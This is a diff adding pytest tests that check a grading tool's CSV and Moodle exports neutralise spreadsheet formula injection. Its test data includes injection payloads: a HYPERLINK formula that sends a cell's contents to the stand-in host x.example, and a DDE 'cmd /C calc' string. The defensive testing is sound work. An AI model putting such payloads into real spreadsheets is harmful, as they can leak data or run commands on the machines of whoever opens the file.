@@ -435,3 +435,69 @@ def test_a_hand_in_that_is_itself_a_link_is_not_collected(repo_root, tmp_path, c
     err = " ".join(capsys.readouterr().err.split())
     assert "is a symbolic link, not a folder" in err
     assert not (course / "submitted").exists() or not any((course / "submitted").iterdir())
+
+
+# --- exports: no cell a spreadsheet would run as a formula -------------------------------------
+
+FORMULAS = ["=HYPERLINK(\"http://x.example/?\"&A1,\"click\")", "+1+cmd|' /C calc'!A0",
+            "-2+3", "@SUM(A1:A9)", "\t=1+1", "\r=1+1", "  =1+1", "\uff1d1+1"]
+
+
+@pytest.mark.parametrize("text", FORMULAS)
+def test_text_that_starts_a_formula_gets_an_apostrophe(text):
+    from migdata.grading.csvsafe import safe_cell
+
+    assert safe_cell(text) == "'" + text
+
+
+@pytest.mark.parametrize("value", [-3.5, 3, 0, True, None, "-3.5", "+4", "-1e3", "-0,25",
+                                   "Aliyev", "s100231", "2026-12-07 19:00:00+04:00", ""])
+def test_numbers_and_plain_text_stay_as_they_are(value):
+    import numpy as np
+
+    from migdata.grading.csvsafe import safe_cell
+
+    assert safe_cell(value) is value
+    assert safe_cell(np.float64(-3.5)) == -3.5 and isinstance(safe_cell(np.int64(-2)), np.integer)
+
+
+def _csv_cells(path: Path) -> list[list[str]]:
+    import csv
+
+    with path.open(encoding="utf-8", newline="") as fh:
+        return list(csv.reader(fh))
+
+
+def test_export_and_moodle_worksheet_neutralise_formulas(graded, tmp_path, monkeypatch):
+    from nbgrader.api import Gradebook
+
+    from migdata.grading import moodle
+
+    evil = "=HYPERLINK(\"http://x.example\",\"open\")"
+    with Gradebook(f"sqlite:///{graded / 'gradebook.db'}", COURSE_ID) as gb:
+        gb.update_or_create_student(evil)
+    out = tmp_path / "grades.csv"
+    assert main(["--course-dir", str(graded), "export", str(out)]) == 0
+    cells = _csv_cells(out)
+    header, rows = cells[0], cells[1:]
+    ids = [row[header.index("student_id")] for row in rows]
+    assert "'" + evil in ids and evil not in ids
+    for row in rows:  # nothing written begins a formula, and numbers are written as numbers
+        for cell in row:
+            assert not cell or cell[0] not in "=+-@\t\r" or re.fullmatch(r"-[\d.]+", cell), cell
+        assert float(row[header.index("score")]) >= 0
+    table = pd.read_csv(out, dtype={"student_id": str})
+    assert table["score"].dtype.kind == "f" and table["max_score"].dtype.kind == "f"
+    # Moodle's worksheet: a full name that is a formula
+    monkeypatch.setattr(moodle, "_roster_for", lambda course_dir, assignment: [
+        {"assignment": A, "participant_id": "7", "student_id": ME, "full_name": "@SUM(1+1)*cmd"},
+    ])
+    from migdata.grading.report import export_grades
+
+    sheet = tmp_path / "moodle.csv"
+    table = export_grades(graded, tmp_path / "again.csv")
+    table.loc[table["student_id"] == ME, "score"] = -3.5  # a negative number stays a number
+    table.loc[table["student_id"] == ME, ["needs_manual_grade", "blank_unconfirmed"]] = [False, 0]
+    moodle.write_grading_worksheet(graded, A, sheet, table)
+    row = _csv_cells(sheet)[1]
+    assert row[:3] == ["Participant 7", "'@SUM(1+1)*cmd", "-3.50"]
